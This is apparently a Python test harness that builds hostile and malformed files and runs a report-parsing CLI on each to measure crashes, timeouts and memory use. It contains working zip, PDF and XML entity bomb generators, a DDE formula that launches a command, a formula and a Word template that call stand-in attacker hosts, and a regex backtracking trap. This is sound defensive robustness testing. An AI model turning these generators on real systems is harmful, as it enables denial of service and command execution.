"""Run `nianbao read` on a catalogue of bad inputs; print exit code, message, time, peak RSS, tracebacks, new files.

Usage: python bench/bad_inputs.py [--keep DIR] [--timeout 20] [--only NAME ...]
The cases of CHECKED run `nianbao check` (their answer is a bad-value finding), all others `nianbao read`.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import random
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
SAMPLE = REPO / "samples" / "houhe-2021.txt"
MB = 1024 * 1024

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
WB_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_CT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


# ---------------------------------------------------------------- builders (self-contained: bench never imports tests)


def xlsx_members(
    n_sheets: int = 1, dimension: str = "A1:B2", prolog: str = "", main_ct: str = WB_CT
) -> dict[str, bytes]:
    """The parts of a minimal valid .xlsx."""
    rng = range(1, n_sheets + 1)
    ws_ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    ct = (
        f'<?xml version="1.0"?><Types xmlns="{CT_NS}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{main_ct}"/>'
        + "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{ws_ct}"/>' for i in rng)
        + "</Types>"
    )
    rels = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
        f'Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    workbook = (
        f'<?xml version="1.0"?>{prolog}<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>'
        + "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>' for i in rng)
        + "</sheets></workbook>"
    )
    wb_rels = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL_NS}">'
        + "".join(
            f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>' for i in rng
        )
        + "</Relationships>"
    )
    sheet = (
        f'<?xml version="1.0"?><worksheet xmlns="{MAIN_NS}"><dimension ref="{dimension}"/><sheetData>'
        '<row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'
    )
    members = {
        "[Content_Types].xml": ct.encode(),
        "_rels/.rels": rels.encode(),
        "xl/workbook.xml": workbook.encode(),
        "xl/_rels/workbook.xml.rels": wb_rels.encode(),
    }
    members.update({f"xl/worksheets/sheet{i}.xml": sheet.encode() for i in rng})
    return members


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_CT = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docx_members(main_ct: str = DOCX_CT, document_rels: str = "") -> dict[str, bytes]:
    """The parts of a minimal valid .docx (one paragraph), with relationships of the main part if given."""
    ct = (
        f'<?xml version="1.0"?><Types xmlns="{CT_NS}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_ct}"/></Types>'
    )
    rels = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
        f'Type="{REL_NS}/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    body = f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>'
    members = {"[Content_Types].xml": ct.encode(), "_rels/.rels": rels.encode(), "word/document.xml": body.encode()}
    if document_rels:
        members["word/_rels/document.xml.rels"] = (
            f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL_NS}">{document_rels}</Relationships>'.encode()
        )
    return members


def docx_bomb(path: Path, gigabytes: int = 1) -> None:
    """A .docx whose word/document.xml inflates to gigabytes of zeros (one compressed 1 MB block, repeated)."""
    block = bytes(MB)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # the same bytes: the window was flushed
    n = 1024 * gigabytes
    stream = first + again * (n - 1) + packer.flush()
    crc = 0
    for _ in range(n):
        crc = zlib.crc32(block, crc)
    members = [(name, data) for name, data in docx_members().items() if name != "word/document.xml"]
    entries = [(name, _raw_deflate(data), len(data), zlib.crc32(data)) for name, data in members]
    entries.append(("word/document.xml", stream, n * MB, crc))
    out, central = io.BytesIO(), b""
    for name, raw, size, check in entries:
        encoded = name.encode()
        offset = out.tell()
        fields = struct.pack("<HHHHHIIIH", 20, 0, 8, 0, 0, check, len(raw), size, len(encoded))
        out.write(b"PK\x03\x04" + fields + b"\x00\x00" + encoded + raw)
        central += (
            b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHHII", 0, 0, 0, 0, 0, offset) + encoded
        )
    start = out.tell()
    count = len(entries)
    out.write(central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(central), start, 0))
    path.write_bytes(out.getvalue())


def _raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def zip_bytes(members: dict[str, bytes]) -> bytes:
    """Pack members into a deflated ZIP."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def ole_bytes(*names: str) -> bytes:
    """An OLE2-looking file with the given directory entry names (UTF-16LE)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return header + b"".join(n.encode("utf-16-le").ljust(128, b"\x00") for n in ("Root Entry", *names))


def zip_bomb(path: Path, megabytes: int) -> None:
    """A workbook whose sheet is megabytes of zeros, streamed in."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in xlsx_members().items():
            if name != "xl/worksheets/sheet1.xml":
                zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            for _ in range(megabytes):
                member.write(bytes(MB))


def claiming_bomb(path: Path, claimed: int = 2 * 1024 * MB) -> None:
    """A small workbook whose central directory claims its sheet expands to `claimed` bytes."""
    data = bytearray(zip_bytes(xlsx_members()))
    name = b"xl/worksheets/sheet1.xml"
    for signature, size_at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        pos = data.find(signature)
        while pos != -1:
            name_len = struct.unpack_from("<H", data, pos + (28 if signature == b"PK\x01\x02" else 26))[0]
            start = pos + (46 if signature == b"PK\x01\x02" else 30)
            if bytes(data[start : start + name_len]) == name:
                struct.pack_into("<I", data, pos + size_at, claimed)
            pos = data.find(signature, pos + 4)
    path.write_bytes(bytes(data))


def junk_text(path: Path, megabytes: int) -> None:
    """A file of exactly `megabytes` MB of printable junk (valid UTF-8, no report in it)."""
    rng = random.Random(1)
    block = "".join(rng.choice("abcdefghij 0123456789报告年度\n") for _ in range(MB // 2)).encode()
    block = block[: block.rfind(b"\n", 0, MB) + 1]
    block += b"x" * (MB - len(block) - 1) + b"\n"  # ASCII padding keeps every block exactly 1 MB
    with path.open("wb") as fh:
        for _ in range(megabytes):
            fh.write(block)


def corrupt_xlsx() -> bytes:
    """A workbook with its sheet's compressed bytes scrambled."""
    data = bytearray(zip_bytes(xlsx_members()))
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    for i in range(start, start + info.compress_size):
        data[i] ^= 0x55
    return bytes(data)


def billion_laughs() -> str:
    """A DOCTYPE declaring nested entities (10^9 'lol's if expanded)."""
    ents = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return "<!DOCTYPE lolz [" + "".join(ents) + "]>"


def html_table(row: str, times: int) -> bytes:
    """A web page holding one table of the same row repeated."""
    return f"<html><body><table>{row * times}</table></body></html>".encode()


def mht_parts(n: int) -> bytes:
    """A web archive of n tiny parts."""
    head = b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n'
    part = b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n"
    return head + part * n + b"--b--\r\n"


def pdf_file(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF of numbered objects (1 is the catalog) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for i in range(1, size):
        out += (b"%010d 00000 n \n" % offsets[i]) if i in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref)
    return bytes(out)


def pdf_stream(data: bytes, extra: bytes = b"") -> bytes:
    """A Flate-compressed stream object."""
    packed = zlib.compress(data)
    return b"<< /Length %d /Filter /FlateDecode%s >>\nstream\n" % (len(packed), extra) + packed + b"\nendstream"


def pdf_page(content: bytes, resources: bytes = b"", more: dict[int, bytes] | None = None) -> bytes:
    """A one-page PDF with this content stream object (objects 1-4), and more objects."""
    return pdf_file(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << %s >> /Contents 4 0 R >>"
            % resources,
            4: content,
            **(more or {}),
        }
    )


def pdf_deflate_bomb(megabytes: int) -> bytes:
    """A page whose content stream inflates to this many megabytes of zeros (full-flush blocks repeated)."""
    c = zlib.compressobj(9)
    chunk = bytes(MB)
    first = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    size = megabytes * MB
    data = first + again * (megabytes - 1) + b"\x03\x00" + struct.pack(">I", ((size % 65521) << 16) | 1)
    return pdf_page(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream")


def pdf_forms_bomb(depth: int = 9) -> bytes:
    """Form XObjects each drawing the next ten times: 10**depth drawings."""
    forms = {}
    for k in range(depth):
        last = k + 1 == depth
        res = b"" if last else b" /Resources << /XObject << /X %d 0 R >> >>" % (11 + k)
        body = b"0 0 m 10 10 l S" if last else b"/X Do\n" * 10
        forms[10 + k] = pdf_stream(body, b" /Type /XObject /Subtype /Form /BBox [0 0 100 100]" + res)
    return pdf_page(pdf_stream(b"/X Do"), b"/XObject << /X 10 0 R >>", forms)


def pdf_pages(n: int) -> bytes:
    """A PDF of n empty pages."""
    kids = b" ".join(b"%d 0 R" % (10 + k) for k in range(n))
    pages = {10 + k: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>" for k in range(n)}
    return pdf_file(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n),
            3: pdf_stream(b""),
            **pages,
        }
    )


def pdf_locked() -> bytes:
    """A PDF that needs a password to open (the standard security handler; no password matches)."""
    junk = bytes(range(32)).hex().encode()
    encrypt = b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -3904 >>" % (junk, junk)
    ident = b"00112233445566778899aabbccddeeff"
    return pdf_file(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>", 3: encrypt},
        b"/Encrypt 3 0 R /ID [<%s> <%s>] " % (ident, ident),
    )


def pdf_scan() -> bytes:
    """A page that shows only a picture: no text layer."""
    image = pdf_stream(
        bytes(range(256)) * 16,
        b" /Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8",
    )
    return pdf_page(pdf_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q"), b"/XObject << /Im0 5 0 R >>", {5: image})


def sheet_stream(path: Path, rows: int, cells: Callable[[int], str], name: str = "S1", dimension: str = "") -> None:
    """A workbook whose one sheet (named name) has these rows, streamed in; <dimension> only if given (it is optional)."""
    members = xlsx_members()
    members["xl/workbook.xml"] = members["xl/workbook.xml"].replace(b'name="S1"', f'name="{name}"'.encode())
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for part, data in members.items():
            if part != "xl/worksheets/sheet1.xml":
                zf.writestr(part, data)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            dim = f'<dimension ref="{dimension}"/>' if dimension else ""
            member.write(f'<?xml version="1.0"?><worksheet xmlns="{MAIN_NS}">{dim}<sheetData>'.encode())
            batch: list[str] = []
            for r in range(1, rows + 1):
                batch.append(f'<row r="{r}">{cells(r)}</row>')
                if len(batch) == 1000:
                    member.write("".join(batch).encode())
                    batch = []
            member.write(("".join(batch) + "</sheetData></worksheet>").encode())


def row_of_numbers(width: int) -> Callable[[int], str]:
    """Cells A..: the number 1 in each of width columns of row r."""
    letters = [chr(65 + c // 26 - 1) + chr(65 + c % 26) if c >= 26 else chr(65 + c) for c in range(width)]
    return lambda r: "".join(f'<c r="{col}{r}"><v>1</v></c>' for col in letters)


def shared_formulas(path: Path) -> None:
    """A 2,000-character formula shared over 160,000 cells in 80,000 rows: 13 MB of XML, 330 MB written out."""
    rng = random.Random(5)
    master = "+".join(f"$A${i}" for i in range(1, 400))

    def cells(r: int) -> str:
        first = f'<c r="B1"><f t="shared" ref="B1:C80000" si="0">{master}+A1</f><v>1</v></c>' if r == 1 else ""
        return first + "".join(
            f'<c r="{col}{r}"><f t="shared" si="0"/><v>{rng.random()}</v></c>' for col in ("BC" if r > 1 else "C")
        )

    sheet_stream(path, 80_000, cells)


def standard_workbook(path: Path, key: str, cell: str) -> None:
    """The sample converted to the standard workbook, with the cell of one defined name replaced by raw XML."""
    import re

    sys.path.insert(0, str(REPO))
    from convert.outputs.standard import write_workbook
    from convert.reader import read_report

    write_workbook(read_report(SAMPLE), path)
    with zipfile.ZipFile(path) as zf:
        members = {info.filename: zf.read(info) for info in zf.infolist()}
    workbook = members["xl/workbook.xml"].decode()
    found = re.search(rf'<definedName name="{key}">\'?([^<!]+?)\'?!\$([A-Z]+)\$(\d+)</definedName>', workbook)
    assert found, key
    names = re.findall(r'<sheet name="([^"]+)"', workbook)
    part = f"xl/worksheets/sheet{names.index(found.group(1)) + 1}.xml"
    ref = found.group(2) + found.group(3)
    text = members[part].decode()
    old = re.search(rf'<c r="{ref}"( s="\d+")?[^>]*?(/>|>.*?</c>)', text)
    assert old, ref
    members[part] = (text[: old.start()] + cell.format(ref=ref, style=old.group(1) or "") + text[old.end() :]).encode()
    path.write_bytes(zip_bytes(members))


def dated_workbook(path: Path) -> None:
    """The standard workbook with 2020-01-01 typed into a count cell (saved as 43831 in a date format)."""
    import datetime

    import openpyxl

    standard_workbook(path, COUNT_KEY, '<c r="{ref}"{style}><v>1</v></c>')
    wb = openpyxl.load_workbook(path)
    [(sheet, ref)] = list(wb.defined_names[COUNT_KEY].destinations)
    wb[sheet][ref.replace("$", "")] = datetime.datetime(2020, 1, 1)
    wb.save(path)


def docx_stored(path: Path, body: str) -> None:
    """A .docx whose body is this XML, stored uncompressed (no ratio check can catch it)."""
    members = docx_members()
    members["word/document.xml"] = (
        f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'
    ).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)


# Cases run with `nianbao check` (a finding, exit 1) rather than `read`; the others are read.
CHECKED = {
    "formula-uncached.xlsx",
    "formula-dde.xlsx",
    "formula-webservice.xlsx",
    "date-in-count.xlsx",
    "count-1e28.xlsx",
    "money-1e28.xlsx",
    "count-1e308.xlsx",
}
COUNT_KEY = "requests_new_received_natural_person"


def build_catalogue(folder: Path, only: list[str] | None = None) -> dict[str, Path]:
    """Write every bad input (or those named) into folder; return name -> path (some do not exist on purpose)."""
    text = SAMPLE.read_text("utf-8") if SAMPLE.exists() else "年度报告\n"
    simple: dict[str, bytes | Callable[[Path], None]] = {
        "control-sample.txt": text.encode(),
        "empty.txt": b"",
        "whitespace.txt": b" \r\n\t \n",
        "random.bin.txt": random.Random(7).randbytes(64 * 1024),
        "png.txt": b"\x89PNG\r\n\x1a\n" + bytes(200),
        "zip.txt": zip_bytes({"a.txt": b"hello"}),
        "docx.txt": zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
        "pdf.txt": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n",
        "scan.pdf": pdf_scan(),
        "locked.pdf": pdf_locked(),
        "pages-2000.pdf": pdf_pages(2000),
        "bomb-inflate-2GB.pdf": pdf_deflate_bomb(2048),
        "bomb-forms-1e9.pdf": pdf_forms_bomb(),
        "bomb-objects-300k.pdf": pdf_page(pdf_stream(b"0 0 m 1 1 l S\n" * 300_000)),
        "gbk.txt": text.encode("gb18030"),
        "utf16le-nobom.txt": text.encode("utf-16-le"),
        "utf16be-bom.txt": b"\xfe\xff" + text.encode("utf-16-be"),
        "crlf-utf8bom.txt": text.replace("\n", "\r\n").encode("utf-8-sig"),
        "corrupt.xlsx": corrupt_xlsx(),
        "truncated.xlsx": zip_bytes(xlsx_members())[:300],
        "old.xls": ole_bytes("Workbook"),
        "encrypted.xlsx": ole_bytes("EncryptionInfo", "EncryptedPackage"),
        "macro.xlsm": zip_bytes({**xlsx_members(main_ct=XLSM_CT), "xl/vbaProject.bin": bytes(64)}),
        "laughs.xlsx": zip_bytes(xlsx_members(prolog=billion_laughs())),
        "sheets60.xlsx": zip_bytes(xlsx_members(n_sheets=60)),
        "dimension-huge.xlsx": zip_bytes(xlsx_members(dimension="A1:XFD1048576")),
        "encrypted.docx": ole_bytes("EncryptionInfo", "EncryptedPackage"),
        "macro.docm": zip_bytes({**docx_members(main_ct=DOCM_CT), "word/vbaProject.bin": bytes(64)}),
        "remote-template.docx": zip_bytes(
            docx_members(
                document_rels=f'<Relationship Id="rId9" Type="{REL_NS}/attachedTemplate" '
                'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
            )
        ),
        "object.docx": zip_bytes({**docx_members(), "word/embeddings/oleObject1.bin": bytes(64)}),
        "bomb-1GB.docx": docx_bomb,
        "broken.doc": ole_bytes("WordDocument", "1Table"),
        "bomb-300MB.xlsx": lambda p: zip_bomb(p, 300),
        "bomb-claims-2GB.xlsx": claiming_bomb,
        "junk-100MB.txt": lambda p: junk_text(p, 100),
        # Under the 50 MB input limit: shows how the report parser itself copes with a large non-report.
        "junk-40MB.txt": lambda p: junk_text(p, 40),
        # Regex backtracking trap: a rule-like line that is not a rule (once took minutes).
        "rule-trap-5MB.txt": lambda p: p.write_text("-" * (5 * MB) + "x\n", encoding="utf-8"),
        # Cells spanning 50 rows and 50 columns each (once 36 s and 4.2 GB for 0.7 MB), and a grid too large.
        "grid-bomb-700KB.html": html_table("<tr>" + '<td colspan="50" rowspan="50">x</td>' * 10 + "</tr>", 1900),
        "grid-tall.html": html_table('<tr><td colspan="900">x</td></tr>', 300),
        "mht-6000-parts.mht": mht_parts(6000),
        # Issue #18: workbook limits counted while streaming, <dimension> left out (it is optional).
        "no-dimension-13MB.xlsx": lambda p: sheet_stream(p, 100_000, row_of_numbers(66)),
        "rows-no-dimension.xlsx": lambda p: sheet_stream(p, 150_000, row_of_numbers(1)),
        "dimension-lies.xlsx": lambda p: sheet_stream(p, 150_000, row_of_numbers(1), dimension="A1:B2"),
        # The same 13 MB as a summary's detail sheet: never read cell by cell, within the row and cell limits.
        "detail-sheet-13MB.xlsx": lambda p: sheet_stream(p, 100_000, row_of_numbers(66), name="汇总·三 申请处理"),
        "shared-formulas-2.6MB.xlsx": shared_formulas,
        # Issue #18: an input cell holds a number or is blank (run with `check`: an error finding, exit 1).
        "formula-uncached.xlsx": lambda p: standard_workbook(p, COUNT_KEY, '<c r="{ref}"{style}><f>2+3</f></c>'),
        "formula-dde.xlsx": lambda p: standard_workbook(
            p, COUNT_KEY, "<c r=\"{ref}\"{style}><f>cmd|'/c calc'!A1</f><v>0</v></c>"
        ),
        "formula-webservice.xlsx": lambda p: standard_workbook(
            p, COUNT_KEY, '<c r="{ref}"{style}><f>WEBSERVICE("http://x.example/")</f><v>0</v></c>'
        ),
        "date-in-count.xlsx": dated_workbook,
        "count-1e28.xlsx": lambda p: standard_workbook(p, COUNT_KEY, '<c r="{ref}"{style}><v>1e28</v></c>'),
        "count-1e308.xlsx": lambda p: standard_workbook(p, COUNT_KEY, '<c r="{ref}"{style}><v>1E+308</v></c>'),
        "money-1e28.xlsx": lambda p: standard_workbook(
            p, "proactive_fees_amount", '<c r="{ref}"{style}><v>1e28</v></c>'
        ),
        # Issue #18: Word bodies that grew without bound (just under 16 MB, stored: no ratio check applies).
        "docx-runs-700k.docx": lambda p: docx_stored(p, "<w:p>" + "<w:r><w:t>x</w:t></w:r>" * 700_000 + "</w:p>"),
        "docx-paragraphs-2.7M.docx": lambda p: docx_stored(p, "<w:p/>" * 2_700_000),
        "docx-tabs-2M.docx": lambda p: docx_stored(p, "<w:p><w:r>" + "<w:tab/>" * 2_000_000 + "</w:r></w:p>"),
    }
    paths: dict[str, Path] = {}
    for name, content in simple.items():
        if only and name not in only:
            continue
        path = folder / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            content(path)
        paths[name] = path
    paths["missing.txt"] = folder / "missing.txt"
    (folder / "a-folder").mkdir()
    paths["a-folder"] = folder / "a-folder"
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "fifo.txt")
        paths["fifo.txt"] = folder / "fifo.txt"
    return paths


# ---------------------------------------------------------------- running


@dataclass
class Result:
    """What one `nianbao read` run did."""

    name: str
    exit_code: int | None
    first_line: str
    seconds: float
    peak_rss_mb: float
    traceback: bool
    new_files: list[str]


def nianbao_command() -> list[str]:
    """This checkout's entry point through this interpreter (run with PYTHONPATH set to it, whatever is installed)."""
    return [sys.executable, "-c", "from convert.cli import main; main()"]


def snapshot(*folders: Path) -> set[Path]:
    """Every file under the folders (to spot anything a run leaves behind)."""
    return {p for folder in folders for p in folder.rglob("*")}


def run_one(name: str, path: Path, command: list[str], workdir: Path, watch: list[Path], timeout: float) -> Result:
    """Run the command on one input, measuring this child's own peak RSS via wait4."""
    before = snapshot(*watch)
    out_path, err_path = workdir / ".stdout", workdir / ".stderr"
    start = time.monotonic()
    with out_path.open("wb") as out, err_path.open("wb") as err:
        try:
            verb = "check" if name in CHECKED else "read"
            env = {**os.environ, "PYTHONPATH": str(REPO)}
            proc = subprocess.Popen([*command, verb, str(path)], stdout=out, stderr=err, cwd=workdir, env=env)
        except OSError as exc:
            return Result(name, None, f"could not start {command[0]}: {exc}", 0.0, 0.0, False, [])
        status = rusage = None
        while time.monotonic() - start < timeout:
            pid, status, rusage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            time.sleep(0.02)
        else:
            proc.send_signal(signal.SIGKILL)  # only the child we started
            _, status, rusage = os.wait4(proc.pid, 0)
            status = None
        proc.returncode = 0  # wait4 reaped it; stop Popen from waiting again
    seconds = time.monotonic() - start
    stderr = err_path.read_text("utf-8", "replace")
    stdout = out_path.read_text("utf-8", "replace")
    out_path.unlink()
    err_path.unlink()
    first = next((line for line in stderr.splitlines() if line.strip()), "")
    if name in CHECKED:
        # The finding is the answer: its code and message, from the table `check` prints.
        first = next((line.strip("│ ") for line in stdout.splitlines() if "bad-value" in line), first)
    if status is None:
        first = f"TIMEOUT after {timeout:.0f} s; {first}"
        code = None
    else:
        code = os.waitstatus_to_exitcode(status)
    new = sorted(str(p) for p in snapshot(*watch) - before)
    peak = rusage.ru_maxrss / 1024 if rusage else 0.0  # Linux reports KB
    return Result(name, code, first[:110], seconds, peak, "Traceback (most recent call last)" in stderr, new)


def main(argv: list[str] | None = None) -> int:
    """Build the catalogue, run every case, print a table."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--keep", type=Path, help="build the catalogue in this (new) folder and keep it")
    parser.add_argument("--timeout", type=float, default=20.0)
    parser.add_argument("--only", nargs="*", help="run only these case names")
    parser.add_argument("--build", type=Path, help=argparse.SUPPRESS)  # the child that writes the catalogue
    args = parser.parse_args(argv)
    if args.build:
        catalogue = build_catalogue(args.build, args.only)
        print(json.dumps({name: str(path) for name, path in catalogue.items()}))
        return 0

    root = args.keep or Path(tempfile.mkdtemp(prefix="nianbao-bad-"))
    root.mkdir(parents=True, exist_ok=True)
    inputs, workdir = root / "inputs", root / "cwd"
    inputs.mkdir()
    workdir.mkdir()
    try:
        t0 = time.monotonic()
        # Built in a child process: Linux counts the parent's peak memory at fork into each child's ru_maxrss, so
        # this process stays small and the inputs it would have held never show in the figures.
        build = [sys.executable, __file__, "--build", str(inputs), *(["--only", *args.only] if args.only else [])]
        done = subprocess.run(build, capture_output=True, text=True, check=True)
        catalogue = {name: Path(path) for name, path in json.loads(done.stdout.splitlines()[-1]).items()}
        print(f"built {len(catalogue)} inputs in {time.monotonic() - t0:.1f} s under {inputs}")
        command = nianbao_command()
        print(
            f"command: PYTHONPATH={REPO} {' '.join(command)} read <input> (check for the {len(CHECKED)} cell cases)\n"
        )
        print(f"{'case':27} {'exit':>4} {'secs':>6} {'RSS MB':>7} {'tb':>3} {'new':>3}  first line of stderr")
        bad = 0
        for name, path in catalogue.items():
            if args.only and name not in args.only:
                continue
            r = run_one(name, path, command, workdir, [inputs, workdir], args.timeout)
            # Exit 0 is right only for the control and the re-encoded copies of it.
            ok = r.exit_code is not None and not r.traceback and not r.new_files
            bad += not ok
            code = "-" if r.exit_code is None else str(r.exit_code)
            print(
                f"{r.name:27} {code:>4} {r.seconds:6.2f} {r.peak_rss_mb:7.1f} {'Y' if r.traceback else '-':>3} "
                f"{len(r.new_files):>3}  {r.first_line}"
            )
            for new in r.new_files:
                print(f"{'':27} new file: {new}")
        print(f"\n{bad} case(s) with a timeout, a traceback or a new file")
        return 1 if bad else 0
    finally:
        if not args.keep:
            shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
